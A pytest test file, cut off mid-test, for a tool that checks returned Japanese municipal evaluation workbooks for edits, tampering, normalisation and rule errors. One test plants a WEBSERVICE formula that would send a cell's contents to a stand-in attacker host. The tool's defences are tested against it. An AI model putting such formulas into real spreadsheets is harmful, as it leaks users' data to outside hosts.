"""``sheettool check`` on returned workbooks altered as departments (and tools) alter them.

No LibreOffice here: each case starts from a generated template and edits its
zip parts directly (as a spreadsheet program would have saved them), or goes
through openpyxl, which stores no cached formula values. The LibreOffice-typed
cases live in test_check_calc.py.
"""

from __future__ import annotations

import hashlib
import io
import json
import re
import subprocess
import sys
import time
import zipfile
from decimal import Decimal
from pathlib import Path

import badfiles
import openpyxl
import pytest
from helpers import (
    ROOT,
    codes,
    errors,
    generate_seed_templates,
    only,
    seed_record,
    seed_records,
    tamper_codes,
)

from sheettool import spec
from sheettool.check import check_file
from sheettool.check.annotate import SHEET as FINDINGS_SHEET
from sheettool.check.annotate import AnnotateError, annotate
from sheettool.cli import main
from sheettool.generate import build, output_path
from sheettool.spec.rates import Rates
from sheettool.xlsx import meta

LAYOUT = spec.load()
PLACE = LAYOUT.place(2022)
SHEET = LAYOUT.sheet_name
RATES = Rates.bundled(LAYOUT)
MAIN = "xl/worksheets/sheet1.xml"  # XlsxWriter writes the visible sheet first
META = "xl/worksheets/sheet3.xml"  # then _lists, then _meta
NOS = [r["project_no"] for r in seed_records()]


def cell(path: str) -> str:
    """The A1 address the layout gives a field or computed item in the FY2022 sheet."""
    return PLACE.at(path).cell


# --------------------------------------------------------------------------- workbook surgery


class Parts:
    """A workbook's zip parts, edited in place the way a spreadsheet program saves them."""

    def __init__(self, source: Path | bytes) -> None:
        data = source.read_bytes() if isinstance(source, Path) else source
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            self.parts = {i.filename: zf.read(i) for i in zf.infolist()}

    def text(self, part: str) -> str:
        return self.parts[part].decode("utf-8")

    def put(self, part: str, text: str) -> None:
        self.parts[part] = text.encode("utf-8")

    def replace(self, part: str, old: str, new: str, count: int = 1) -> None:
        text = self.text(part)
        assert text.count(old) >= count, f"{old!r} not in {part}"
        self.put(part, text.replace(old, new, count))

    def cell_xml(self, ref: str, part: str = MAIN) -> str | None:
        m = _cell_re(ref).search(self.text(part))
        return m.group(0) if m else None

    def set_cell(self, ref: str, body: str = "", t: str | None = None, part: str = MAIN,
                 style: int | None = None) -> None:
        """Give cell ``ref`` the inner XML ``body`` and type ``t``, keeping its style."""
        text = self.text(part)
        m = _cell_re(ref).search(text)
        if style is None:
            old_style = re.search(r'\ss="(\d+)"', m.group("attrs")) if m else None
            style = int(old_style.group(1)) if old_style else None
        attrs = (f' s="{style}"' if style is not None else "") + (f' t="{t}"' if t else "")
        new = f'<c r="{ref}"{attrs}>{body}</c>' if body else f'<c r="{ref}"{attrs}/>'
        if m:
            self.put(part, text[: m.start()] + new + text[m.end():])
            return
        row = re.search(r"\d+", ref).group(0)
        rm = re.search(rf'<row r="{row}"[^>]*?(?:/>|>(.*?)</row>)', text, re.S)
        assert rm and rm.group(0).endswith("</row>"), f"row {row} not in {part}"
        col = _col(ref)
        insert_at = rm.end(1)
        for cm in re.finditer(r'<c r="([A-Z]+)\d+"', rm.group(1)):
            if _col(cm.group(1)) > col:
                insert_at = rm.start(1) + cm.start()
                break
        self.put(part, text[:insert_at] + new + text[insert_at:])

    def number(self, ref: str, value: float, part: str = MAIN) -> None:
        self.set_cell(ref, f"<v>{value}</v>", part=part)

    def string(self, ref: str, value: str, part: str = MAIN) -> None:
        """Text as stored in the cell (an inline string), e.g. digits kept as text."""
        escaped = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        self.set_cell(ref, f'<is><t xml:space="preserve">{escaped}</t></is>', "inlineStr", part)

    def formula(self, ref: str, formula: str, cached: float | None = None, part: str = MAIN) -> None:
        value = f"<v>{cached}</v>" if cached is not None else ""
        escaped = formula.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        self.set_cell(ref, f"<f>{escaped}</f>{value}", part=part)

    def blank(self, ref: str, part: str = MAIN) -> None:
        self.set_cell(ref, part=part)

    def meta_row(self, key: str) -> int:
        """The _meta row holding ``key`` (column A, a shared string)."""
        strings = [re.sub(r"<[^>]+>", "", si) for si in
                   re.findall(r"<si>(.*?)</si>", self.text("xl/sharedStrings.xml"), re.S)]
        for m in re.finditer(r'<c r="A(\d+)"[^>]*t="s"[^>]*><v>(\d+)</v>', self.text(META)):
            if strings[int(m.group(2))] == key:
                return int(m.group(1))
        raise AssertionError(f"_meta has no {key}")

    def meta_value(self, key: str) -> str:
        """The raw text of a string-valued _meta entry."""
        xml = self.cell_xml(f"B{self.meta_row(key)}", META)
        strings = re.findall(r"<si>(.*?)</si>", self.text("xl/sharedStrings.xml"), re.S)
        index = int(re.search(r"<v>(\d+)</v>", xml).group(1))
        raw = re.sub(r"<[^>]+>", "", strings[index])
        return raw.replace("&quot;", '"').replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")

    def set_meta(self, key: str, value: str | int) -> None:
        ref = f"B{self.meta_row(key)}"
        if isinstance(value, int):
            self.number(ref, value, META)
        else:
            self.string(ref, value, META)

    def rename_sheet(self, old: str, new: str) -> None:
        """As Excel does it: the sheet entry and every reference in defined names."""
        self.replace("xl/workbook.xml", f'<sheet name="{old}"', f'<sheet name="{new}"')
        text = self.text("xl/workbook.xml")
        self.put("xl/workbook.xml", text.replace(f">{old}!", f">'{new}'!"))

    def defined_name(self, name: str) -> str:
        m = re.search(rf'<definedName name="{name}">([^<]*)</definedName>', self.text("xl/workbook.xml"))
        assert m, name
        return m.group(1)

    def set_defined_name(self, name: str, target: str | None) -> None:
        """Point ``name`` at ``target`` (Sheet!$A$1), or delete it when None."""
        old = f'<definedName name="{name}">{self.defined_name(name)}</definedName>'
        new = "" if target is None else f'<definedName name="{name}">{target}</definedName>'
        self.replace("xl/workbook.xml", old, new)

    def save(self, path: Path) -> Path:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
            for name, data in self.parts.items():
                zf.writestr(name, data)
        path.write_bytes(out.getvalue())
        return path


def _cell_re(ref: str) -> re.Pattern[str]:
    return re.compile(rf'<c r="{ref}"(?P<attrs>[^>]*?)(?:/>|>(?P<body>.*?)</c>)', re.S)


def _col(ref: str) -> int:
    n = 0
    for ch in re.match(r"[A-Z]+", ref).group(0):
        n = n * 26 + ord(ch) - 64
    return n


# --------------------------------------------------------------------------- fixtures and asserts


@pytest.fixture(scope="module")
def templates(tmp_path_factory) -> dict[str, Path]:
    """The six seed records' templates, generated once for the module."""
    out = generate_seed_templates(tmp_path_factory.mktemp("check"))
    return {r["project_no"]: output_path(out, r) for r in seed_records()}


@pytest.fixture
def book(templates) -> Parts:
    """Project 088's template, ready to alter."""
    return Parts(templates["088"])


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# --------------------------------------------------------------------------- 0. the baseline


@pytest.mark.parametrize("no", NOS)
def test_each_seed_template_reads_back_as_its_record(templates, no):
    result = check_file(templates[no])
    assert result.readable and result.ok
    assert result.record == seed_record(no)
    assert errors(result) == []
    assert tamper_codes(result) == set()
    assert result.meta["project_no"] == no and result.meta["fiscal_year"] == 2022


def test_the_surgery_helper_sees_the_generated_cells(book):
    """Guards every test below: the parts and cells edited are where we think they are."""
    assert "<f>" in book.cell_xml(cell("costs.2022.settlement"))
    assert "<v>102034</v>" in book.cell_xml(cell("costs.2022.settlement"))
    assert re.fullmatch(r'<c r="H23" s="\d+"><v>130114</v></c>', book.cell_xml(cell("costs.2022.budget")))
    assert book.meta_value("project_no") == "088"
    assert 'state="veryHidden"' in book.text("xl/workbook.xml")
    assert book.defined_name("f_costs_2022_budget") == f"{SHEET}!$H$23"


# --------------------------------------------------------------------------- 1. reading through names


def test_renamed_sheet_is_read_through_its_defined_names(book, tmp_path):
    book.rename_sheet(SHEET, "R4 情報政策課")
    result = check_file(book.save(tmp_path / "renamed.xlsx"))
    assert result.record == seed_record("088")
    assert errors(result) == []
    t210 = only(result, "T210")
    assert t210.severity == "warning" and t210.sheet == "R4 情報政策課"
    assert f"「{SHEET}」から「R4 情報政策課」" in t210.message
    # findings now name the sheet as it is called in the file
    assert {f.sheet for f in result.findings} == {"R4 情報政策課"}


def test_cell_cut_and_pasted_elsewhere_is_read_at_its_new_address(book, tmp_path):
    """Excel's cut/paste moves the value, its defined name and every formula reference."""
    old = cell("costs.2022.general_fund")  # H25
    book.set_cell("M25", book.cell_xml(old).split(">", 1)[1].rsplit("</c>", 1)[0])
    book.blank(old)
    book.set_defined_name("f_costs_2022_general_fund", f"{SHEET}!$M$25")
    book.formula(cell("costs.2022.settlement"), 'IF(AND(M25="",H26="",H27=""),"",M25+H26+H27)', 102034)
    book.string("M5", "01-020108-99")  # budget code moved too, and changed by the department
    book.blank(cell("budget_code"))
    book.set_defined_name("f_budget_code", f"{SHEET}!$M$5")
    # the 入力チェック formulas follow the moved cells too, as Excel moves every reference
    check_part = next(p for p in book.parts if p.startswith("xl/worksheets/") and b"SUM($B$1:B1)" in book.parts[p])
    moved_from = {old: "M25", cell("budget_code"): "M5"}
    text = book.text(check_part)
    for src, dst in moved_from.items():
        col, row = re.fullmatch(r"([A-Z]+)(\d+)", src).groups()
        new_col, new_row = re.fullmatch(r"([A-Z]+)(\d+)", dst).groups()
        text = re.sub(rf"!\${col}\${row}(?!\d)", f"!${new_col}${new_row}", text)
    book.put(check_part, text)
    result = check_file(book.save(tmp_path / "moved.xlsx"))
    expected = seed_record("088") | {"budget_code": "01-020108-99"}
    assert result.record == expected
    assert result.record["costs"][2]["general_fund"] == 102034
    assert errors(result) == []
    assert tamper_codes(result) == set()  # the moved formula is the expected one, nothing to say


def test_formula_left_pointing_at_the_old_cell_after_a_move_is_a_changed_formula(book, tmp_path):
    book.set_cell("M25", "<v>102034</v>")
    book.blank(cell("costs.2022.general_fund"))
    book.set_defined_name("f_costs_2022_general_fund", f"{SHEET}!$M$25")
    result = check_file(book.save(tmp_path / "moved.xlsx"))
    t203 = only(result, "T203")
    assert (t203.cell, t203.field, t203.severity) == ("H24", "costs.2022.settlement", "error")
    assert "H25+H26+H27" in t203.message
    assert result.record["costs"][2]["settlement"] == 102034  # recomputed from M25, not the cache


def test_missing_defined_name_falls_back_to_the_layout_address(book, tmp_path):
    book.set_defined_name("f_budget_name", None)
    result = check_file(book.save(tmp_path / "noname.xlsx"))
    assert result.record == seed_record("088")
    t219 = only(result, "T219")
    assert (t219.cell, t219.field, t219.severity) == ("E5", "budget_name", "warning")
    assert "f_budget_name" in t219.message and "E5" in t219.message


def test_defined_name_pointing_into_another_sheet_is_not_followed(book, tmp_path):
    book.set_defined_name("f_project_name", "_meta!$B$4")
    result = check_file(book.save(tmp_path / "othersheet.xlsx"))
    assert result.record["project_name"] == "情報通信ネットワーク運営業務"
    assert only(result, "T219").cell == "D4"


@pytest.mark.parametrize("cached", [129129, None])
def test_formula_typed_into_a_number_input_is_an_error_and_neither_it_nor_its_result_is_read(book, tmp_path, cached):
    ref = cell("costs.2023.budget")
    book.formula(ref, "100000+29129", cached=cached)
    result = check_file(book.save(tmp_path / "typed_formula.xlsx"))
    v310 = only(result, "V310")
    assert (v310.cell, v310.field, v310.severity) == (ref, "costs.2023.budget", "error")
    assert "=100000+29129" in v310.message and "未入力として扱います" in v310.message and "値を入力" in v310.message
    assert "129,129" not in v310.message and not result.ok
    assert LAYOUT.get(result.record, "costs.2023.budget") is None  # the cached 129129 is never taken
    assert "V302" not in codes(result) and "R501" not in codes(result)  # said once


def test_formula_typed_into_a_text_input_is_kept_as_its_text(book, tmp_path):
    ref = cell("results.achievements")
    book.formula(ref, 'WEBSERVICE("http://attacker.example/?"&B4)', cached="取得した文章")
    result = check_file(book.save(tmp_path / "typed_webservice.xlsx"))
    v310 = only(result, "V310")
    assert v310.is_error and "文字として記録しました" in v310.message
    assert result.record["results"]["achievements"] == '=WEBSERVICE("http://attacker.example/?"&B4)'


# --------------------------------------------------------------------------- 2. formulas and caches


@pytest.mark.parametrize("path", ["costs.2022.settlement", "costs.2023.personnel_cost"])
def test_formula_replaced_by_a_value_is_an_error_at_that_cell(book, tmp_path, path):
    ref = cell(path)
    book.number(ref, 999)
    result = check_file(book.save(tmp_path / "value.xlsx"))
    t202 = only(result, "T202")
    assert (t202.cell, t202.field, t202.severity, t202.sheet) == (ref, path, "error", SHEET)
    assert "数式が変更されています" in t202.message and "「999」" in t202.message
    assert "自動計算" in t202.message  # says what to do
    seed = seed_record("088")
    year = int(path.split(".")[1])
    key = path.split(".")[2]
    # the record keeps the value computed from the inputs, not the typed-over 999
    assert next(c for c in result.record["costs"] if c["year"] == year)[key] == \
        next(c for c in seed["costs"] if c["year"] == year)[key]
    assert not result.ok


def test_sentence_formula_replaced_by_text_is_reported(book, tmp_path):
    ref = PLACE.computed["evaluation_text.citizen_needs"].cell
    book.string(ref, "市民ニーズは非常に高い")
    result = check_file(book.save(tmp_path / "sentence.xlsx"))
    t202 = only(result, "T202")
    assert t202.cell == ref and "市民ニーズの文" in t202.message and "非常に高い" in t202.message


def test_changed_formula_is_an_error_quoting_the_new_formula(book, tmp_path):
    book.formula(cell("costs.2022.personnel_cost"), "ROUND(H29*H32/1000,0)", 6810)
    result = check_file(book.save(tmp_path / "changed.xlsx"))
    t203 = only(result, "T203")
    assert (t203.cell, t203.field, t203.severity) == ("H28", "costs.2022.personnel_cost", "error")
    assert "数式が変更されています" in t203.message and "=ROUND(H29*H32/1000,0)" in t203.message
    assert result.record["costs"][2]["personnel_cost"] == 7055  # recomputed, not the cached 6810


def test_formula_spelled_differently_but_equal_is_not_a_change(book, tmp_path):
    book.formula(cell("costs.2022.settlement"),
                 'if(and($H$25="", $H$26="", $H$27=""), "", $H$25 + $H$26 + $H$27)', 102034)
    result = check_file(book.save(tmp_path / "spelling.xlsx"))
    assert tamper_codes(result) == set()
    assert result.record == seed_record("088")


def test_stale_cached_value_is_a_warning_and_the_recomputation_wins(book, tmp_path):
    ref = cell("costs.2022.settlement")
    book.formula(ref, 'IF(AND(H25="",H26="",H27=""),"",H25+H26+H27)', 5)
    result = check_file(book.save(tmp_path / "stale.xlsx"))
    t204 = only(result, "T204")
    assert (t204.cell, t204.field, t204.severity) == (ref, "costs.2022.settlement", "warning")
    assert "5" in t204.message and "102034" in t204.message and "再計算" in t204.message
    assert result.record == seed_record("088") and result.ok


def test_inputs_changed_without_recalculation_are_recomputed(book, tmp_path):
    """A tool that edits inputs and leaves every cache alone: the record follows the inputs."""
    book.number(cell("costs.2022.general_fund"), 100000)
    book.number(cell("costs.2022.other"), -375)
    book.number(cell("costs.2022.staff_fte"), 2.35)
    book.number(cell("costs.2022.overtime_hours"), 1050)
    result = check_file(book.save(tmp_path / "norecalc.xlsx"))
    cost = result.record["costs"][2]
    assert cost["settlement"] == 100000 + 0 - 375
    assert cost["personnel_cost"] == 18572  # ROUND((16,003,500 + 2,568,300) / 1000) = ROUND(18,571.8)
    assert {(f.code, f.cell) for f in result.findings if f.code == "T204"} == {("T204", "H24"), ("T204", "H28")}
    assert result.ok


def test_rate_cell_changed_is_tampering_and_the_recorded_rate_is_used(book, tmp_path):
    book.number(PLACE.computed["rates.2022.salary_per_fte"].cell, 9000000)
    result = check_file(book.save(tmp_path / "rate.xlsx"))
    t214 = only(result, "T214")
    assert t214.cell == "H32" and t214.severity == "error"
    assert "令和4年度の正職員1人当たり人件費" in t214.message  # a Japanese label, not a path
    assert "6810000" in t214.message and "9000000" in t214.message
    assert result.record["costs"][2]["personnel_cost"] == 7055  # computed with _meta's rate


@pytest.mark.parametrize("no", NOS)
def test_openpyxl_resave_without_cached_values_reads_correctly(templates, tmp_path, no):
    wb = openpyxl.load_workbook(templates[no])
    ws = wb[SHEET]
    ws[cell("costs.2023.general_fund")] = 5000
    ws[cell("costs.2023.other")] = -375
    ws[cell("costs.2023.staff_fte")] = 2.35
    out = tmp_path / "openpyxl.xlsx"
    wb.save(out)
    with zipfile.ZipFile(out) as zf:
        sheet = zf.read(MAIN).decode()
    assert re.search(r'<c r="H24"[^>]*><f>[^<]+</f>(<v\s*/>)?</c>', sheet)  # no cached value stored
    result = check_file(out)
    expected = seed_record(no)
    cost = next(c for c in expected["costs"] if c["year"] == 2023)
    cost.update(general_fund=5000, other=-375, staff_fte=2.35,
                settlement=5000 + cost["subsidies_bonds"] - 375,
                personnel_cost=int(Decimal("2.35") * 6810 + Decimal(str(cost["overtime_hours"])) * Decimal("2.446")
                                   + Decimal("0.5")))
    assert result.record == expected
    assert tamper_codes(result) == set()  # no T204 for a cache that is simply absent
    assert result.ok


# --------------------------------------------------------------------------- 3. normalisation


@pytest.mark.parametrize(("path", "raw", "value", "said"), [
    ("costs.2023.budget", "１２，３４５", 12345, ["全角", "桁区切り"]),
    ("costs.2023.budget", "12,345", 12345, ["桁区切り"]),
    ("costs.2023.budget", "12345", 12345, ["文字列として入力された数値"]),
    ("costs.2023.budget", " 5 ", 5, ["前後の空白"]),
    ("costs.2023.budget", "\u3000１２３\u3000", 123, ["前後の空白", "全角"]),
    ("costs.2023.budget", "１，２３４千円", 1234, ["単位「千円」"]),
    ("costs.2023.other", "△375", -375, ["「△」を負の数"]),
    ("costs.2023.other", "▲1,200", -1200, ["「▲」を負の数", "桁区切り"]),
    ("costs.2023.other", "－375", -375, ["全角"]),
    ("costs.2023.staff_fte", "１．５", 1.5, ["全角"]),
    ("costs.2023.budget", "－", None, ["値なし"]),
    ("costs.2023.budget", "—", None, ["値なし"]),
    ("costs.2023.budget", "-", None, ["値なし"]),
    ("costs.2023.budget", "\u3000", None, ["空白だけ"]),
    ("indicators.1.2023.actual", "３", 3.0, ["全角"]),
    ("evaluation.progress", "２", 2, ["全角"]),
    ("costs.2023.part_time_staff", "あり", True, ["「有」"]),
    ("direction", "継 続", "継続", ["選択肢の「継続」"]),
    ("sdgs.1", "9", 9, ["目標9"]),
    ("section", " 情報システム係\u3000", "情報システム係", ["前後の空白"]),
])
def test_normalised_cell_is_read_and_warned_about_at_that_cell(book, tmp_path, path, raw, value, said):
    ref = cell(path)
    book.string(ref, raw)
    result = check_file(book.save(tmp_path / "typed.xlsx"))
    v301 = only(result, "V301")
    assert (v301.cell, v301.field, v301.severity, v301.sheet) == (ref, path, "warning", SHEET)
    assert f"「{raw}」" in v301.message
    for words in said:
        assert words in v301.message

    assert LAYOUT.get(result.record, path) == value
    assert [code for code, _ in errors(result)] == []


def test_score_dash_written_full_width_is_read_as_dash(book, tmp_path):
    ref = cell("evaluation.priority")
    book.string(ref, "－")
    result = check_file(book.save(tmp_path / "dash.xlsx"))
    v301 = only(result, "V301")
    assert v301.cell == ref and "「－」を - として" in v301.message
    assert result.record["evaluation"]["priority"] is None
    assert only(result, "R505").cell == ref  # 088 is 自治事務（任意）: "-" is not allowed there


@pytest.mark.parametrize(("path", "raw", "words"), [
    ("costs.2023.budget", "abc", ["「abc」を数値として読み取れません", "半角の整数"]),
    ("costs.2023.budget", "12.5", ["「12.5」は整数ではありません", "半角の整数"]),
    ("costs.2023.budget", "1,23", ["「1,23」を数値として読み取れません"]),
    ("costs.2023.budget", "12 345", ["「12 345」"]),
    ("costs.2023.staff_fte", "一人", ["「一人」を数値として", "半角の数値"]),
    ("evaluation.progress", "6", ["「6」は評価の点数", "一覧から選んで"]),
    ("evaluation.progress", "とても良い", ["「とても良い」は評価の点数"]),
    ("direction", "継続する", ["「継続する」は選択肢", "一覧から選んで"]),
    ("costs.2023.part_time_staff", "たぶん", ["「たぶん」は「有」「無」のどちらでもありません"]),
    ("sdgs.2", "SDGs全般", ["「SDGs全般」はSDGsの目標"]),
])
def test_unreadable_value_is_an_error_keeping_the_raw_text(book, tmp_path, path, raw, words):
    ref = cell(path)
    book.string(ref, raw)
    result = check_file(book.save(tmp_path / "bad.xlsx"))
    v302 = only(result, "V302")
    assert (v302.cell, v302.field, v302.severity) == (ref, path, "error")
    for w in words:
        assert w in v302.message
    assert not result.ok
    assert "V301" not in codes(result) and "R501" not in codes(result)  # one finding for one cell


def test_error_value_in_an_input_cell_is_an_error(book, tmp_path):
    book.set_cell(cell("costs.2023.budget"), "<v>#N/A</v>", "e")
    result = check_file(book.save(tmp_path / "na.xlsx"))
    v302 = only(result, "V302")
    assert v302.cell == "I23" and "エラー値「#N/A」" in v302.message


def test_unreadable_input_leaves_its_formula_uncomputed_without_a_cache_warning(book, tmp_path):
    """staff_fte 'abc': 人件費計 is not computed from half its inputs, and no T204 noise."""
    book.string(cell("costs.2022.staff_fte"), "abc")
    book.set_cell(cell("costs.2022.personnel_cost"),
                  '<f>IF(AND(H29="",H30=""),"",ROUND(ROUND(H29*H32+H30*H33,4)/1000,0))</f><v>#VALUE!</v>', "e")
    result = check_file(book.save(tmp_path / "abc.xlsx"))
    assert codes(result).count("V302") == 1 and "T204" not in codes(result)
    cost = result.record["costs"][2]
    assert cost["staff_fte"] is None and cost["personnel_cost"] is None  # not 245 from overtime alone


def test_number_in_a_code_cell_is_read_as_text_with_a_warning(book, tmp_path):
    """A pasted number loses leading zeros ("04" → 4): reading it back as "4" is not silent."""
    ref = cell("mayor_pledge.1")
    book.number(ref, 4)
    result = check_file(book.save(tmp_path / "code.xlsx"))
    v301 = only(result, "V301")
    assert (v301.cell, v301.field) == (ref, "mayor_pledge.1") and "数値として入力された値" in v301.message
    assert result.record["mayor_pledge"] == ["4"]


def test_numbers_typed_as_numbers_need_no_warning(book, tmp_path):
    book.number(cell("costs.2023.other"), -375)
    book.number(cell("costs.2023.staff_fte"), 0.35)
    result = check_file(book.save(tmp_path / "plain.xlsx"))
    assert "V301" not in codes(result)
    cost = result.record["costs"][3]
    assert (cost["other"], cost["staff_fte"]) == (-375, 0.35)


# --------------------------------------------------------------------------- 4. schema and rules


def test_value_outside_the_schema_bounds_names_sheet_cell_and_field(book, tmp_path):
    book.number(cell("costs.2022.overtime_hours"), -5)
    result = check_file(book.save(tmp_path / "neg.xlsx"))
    s401 = only(result, "S401")
    assert (s401.sheet, s401.cell, s401.field, s401.severity) == (SHEET, "H30", "costs.2022.overtime_hours", "error")
    assert s401.message.startswith("令和4年度の正職員時間外勤務（時間）（H30）は0以上にしてください")
    assert "修正してください" in s401.message


def test_text_longer_than_the_schema_allows(book, tmp_path):
    book.string(cell("summary"), "あ" * 1001)
    result = check_file(book.save(tmp_path / "long.xlsx"))
    s401 = only(result, "S401")
    assert (s401.cell, s401.field) == ("C20", "summary")
    assert "1000文字以内" in s401.message and "1001文字" in s401.message


def test_schema_problem_without_one_cell_has_no_empty_brackets(book, tmp_path):
    book.string(cell("sdgs.2"), "09産業と技術革新の基盤をつくろう")  # the same goal twice
    result = check_file(book.save(tmp_path / "dup.xlsx"))
    s401 = only(result, "S401")
    assert (s401.cell, s401.field) == (None, "sdgs")
    assert "重複" in s401.message and "（）" not in s401.message


def test_current_year_input_missing(book, tmp_path):
    book.blank(cell("costs.2022.budget"))
    book.blank(cell("results.improvement_goal"))
    result = check_file(book.save(tmp_path / "missing.xlsx"))
    found = {(f.code, f.cell, f.field, f.severity) for f in result.findings if f.code == "R501"}
    assert found == {("R501", "H23", "costs.2022.budget", "error"),
                     ("R501", "E73", "results.improvement_goal", "error")}
    assert all("未入力" in f.message and "入力してください" in f.message
               for f in result.findings if f.code == "R501")


def test_dash_in_a_required_cell_is_not_reported_twice(book, tmp_path):
    book.string(cell("costs.2022.budget"), "-")
    result = check_file(book.save(tmp_path / "dashreq.xlsx"))
    assert only(result, "V301").cell == "H23"
    assert only(result, "R501").cell == "H23"  # a dash is no value: the input is still missing


def test_history_kept_as_reported_differs_from_its_breakdown(tmp_path):
    record = seed_record("088")
    record["costs"][0]["settlement"] = 80000  # published figure that does not add up
    data, *_ = build(record, LAYOUT, RATES, "test")
    result = check_file(Parts(data).save(tmp_path / "history.xlsx"))
    r502 = only(result, "R502")
    assert (r502.cell, r502.field, r502.severity) == ("F24", "costs.2020.settlement", "warning")
    assert "80,000" in r502.message and "77,967" in r502.message and "連絡" in r502.message
    assert result.record["costs"][0]["settlement"] == 80000  # kept, not recomputed
    assert "T202" not in codes(result)  # a constant by design, not a replaced formula


def test_constant_list_in_meta_cannot_excuse_a_replaced_formula(book, tmp_path):
    book.set_meta("constant_cells", '["f_costs_2022_settlement"]')
    book.number(cell("costs.2022.settlement"), 999)
    result = check_file(book.save(tmp_path / "excuse.xlsx"))
    assert "T215" in codes(result)
    assert only(result, "T202").cell == "H24"
    assert result.record["costs"][2]["settlement"] == 102034


def test_indicator_rules(book, tmp_path):
    book.blank(cell("indicators.1.unit"))
    book.blank(cell("indicators.1.2022.target"))
    book.number(cell("indicators.5.2022.target"), 10)  # values without a name
    result = check_file(book.save(tmp_path / "ind.xlsx"))
    r503 = {(f.cell, f.field, f.severity) for f in result.findings if f.code == "R503"}
    assert r503 == {("I40", "indicators.1.unit", "warning"), ("H42", "indicators.1.2022.target", "warning")}
    assert any("令和4年度の目標値" in f.message and "年間のネットワーク停止時間" in f.message
               for f in result.findings if f.code == "R503")
    r504 = only(result, "R504")
    assert (r504.cell, r504.field, r504.severity) == ("E60", "indicators.5.name", "error")
    assert "指標5" in r504.message and "指標名を入力するか" in r504.message


@pytest.mark.parametrize("key", ["citizen_needs", "progress", "city_involvement", "priority"])
def test_dash_score_outside_law_assigned_projects(book, tmp_path, key):
    ref = cell(f"evaluation.{key}")
    book.string(ref, "-")
    result = check_file(book.save(tmp_path / "dash.xlsx"))
    r505 = only(result, "R505")
    assert (r505.cell, r505.field, r505.severity) == (ref, f"evaluation.{key}", "error")
    assert "1～5の点数を選んでください" in r505.message


@pytest.mark.parametrize(("key", "allowed"), [("city_involvement", True), ("priority", True),
                                              ("citizen_needs", False)])
def test_dash_score_for_a_law_assigned_project(tmp_path, key, allowed):
    record = seed_record("088") | {"category": "法定受託事務"}
    record["evaluation"][key] = None
    data, *_ = build(record, LAYOUT, RATES, "test")
    parts = Parts(data)
    parts.string(cell(f"evaluation.{key}"), "-")
    result = check_file(parts.save(tmp_path / "law.xlsx"))
    assert ("R505" not in codes(result)) is allowed
    assert result.record["evaluation"][key] is None


def test_direction_other_than_continue_needs_a_reason(book, tmp_path):
    book.string(cell("direction"), "縮小")
    result = check_file(book.save(tmp_path / "shrink.xlsx"))
    r506 = only(result, "R506")
    assert (r506.cell, r506.field, r506.severity) == ("D81", "direction_reason", "error")
    assert "「縮小」" in r506.message and "理由" in r506.message
    book.string(cell("direction_reason"), "利用者の減少により規模を縮小するため。")
    result = check_file(book.save(tmp_path / "shrink2.xlsx"))
    assert "R506" not in codes(result) and result.record["direction"] == "縮小"


def test_text_that_will_not_fit_the_printed_box(book, tmp_path):
    book.string(cell("target"), "市職員及び市民" * 20)
    result = check_file(book.save(tmp_path / "fit.xlsx"))
    r507 = next(f for f in result.findings if f.code == "R507" and f.field == "target")
    assert r507.cell == "C18" and r507.severity == "warning"
    assert "印刷枠に収まりません" in r507.message and "約140文字" in r507.message
    assert "短くする" in r507.message


def test_every_check_message_says_what_to_do():
    from sheettool.messages import CATALOG

    for code, message in CATALOG.items():
        if code[0] in "TVSRA" and code not in ("A702",):
            assert message.remedy, f"{code} has no remedy"


# --------------------------------------------------------------------------- 5. identity and tampering


def test_workbook_without_meta_is_not_our_template(book, tmp_path):
    book.replace("xl/workbook.xml", '<sheet name="_meta" sheetId="3" state="veryHidden" r:id="rId3"/>', "")
    del book.parts[META]
    result = check_file(book.save(tmp_path / "nometa.xlsx"))
    t201 = only(result, "T201")
    assert t201.severity == "error" and "sheettoolで作成したテンプレートではありません" in t201.message
    assert "配布されたテンプレートに記入" in t201.message
    assert result.record == seed_record("088")  # still read through the defined names
    assert not result.ok


def test_foreign_workbook_gets_one_finding(tmp_path):
    result = check_file(badfiles.write_normal_xlsx(tmp_path))
    assert codes(result) == ["T201"]
    assert result.readable and result.record is None and not result.ok


@pytest.mark.parametrize(("version", "code", "severity"), [("2.0.0", "T206", "error"), ("1.1.0", "T207", "warning")])
def test_template_version_differs(book, tmp_path, version, code, severity):
    book.set_meta("template_version", version)
    result = check_file(book.save(tmp_path / "version.xlsx"))
    found = only(result, code)
    assert found.severity == severity and version in found.message and "1.0.0" in found.message
    assert result.record == seed_record("088")


def test_unknown_template_id_is_read_with_the_default(book, tmp_path):
    book.set_meta("template_id", "osaka")
    result = check_file(book.save(tmp_path / "tid.xlsx"))
    assert "「osaka」" in only(result, "T205").message
    assert result.record == seed_record("088")


def test_fiscal_year_on_the_sheet_differs_from_generation(book, tmp_path):
    book.number(cell("fiscal_year"), 2023)
    result = check_file(book.save(tmp_path / "fy.xlsx"))
    t208 = only(result, "T208")
    assert (t208.cell, t208.field, t208.severity) == ("I2", "fiscal_year", "error")
    assert "作成時 2022" in t208.message and "シート上 2023" in t208.message
    assert "T214" not in codes(result)  # the same change is not reported twice


def test_fiscal_year_edited_in_meta_does_not_shift_the_year_columns(book, tmp_path):
    book.set_meta("fiscal_year", 2023)
    result = check_file(book.save(tmp_path / "metafy.xlsx"))
    t208 = only(result, "T208")
    assert "作成時 2023" in t208.message and "シート上 2022" in t208.message
    assert "T219" not in codes(result)
    assert result.record["costs"] == seed_record("088")["costs"]  # 2022's values under 2022


def test_project_number_differs_from_generation(book, tmp_path):
    book.string(cell("project_no"), "099")
    result = check_file(book.save(tmp_path / "no.xlsx"))
    t209 = only(result, "T209")
    assert (t209.cell, t209.field, t209.severity) == ("C4", "project_no", "error")
    assert "作成時 088" in t209.message and "シート上 099" in t209.message
    assert "T214" not in codes(result)


def test_project_number_edited_in_meta(book, tmp_path):
    book.set_meta("project_no", "099")
    result = check_file(book.save(tmp_path / "metano.xlsx"))
    assert "作成時 099" in only(result, "T209").message


def test_protection_removed_is_reported_and_locked_cells_still_checked(book, tmp_path):
    book.replace(MAIN, '<sheetProtection sheet="1" objects="1" scenarios="1" formatRows="0"/>', "")
    book.number(cell("costs.2021.budget"), 1)  # then a locked history cell was changed
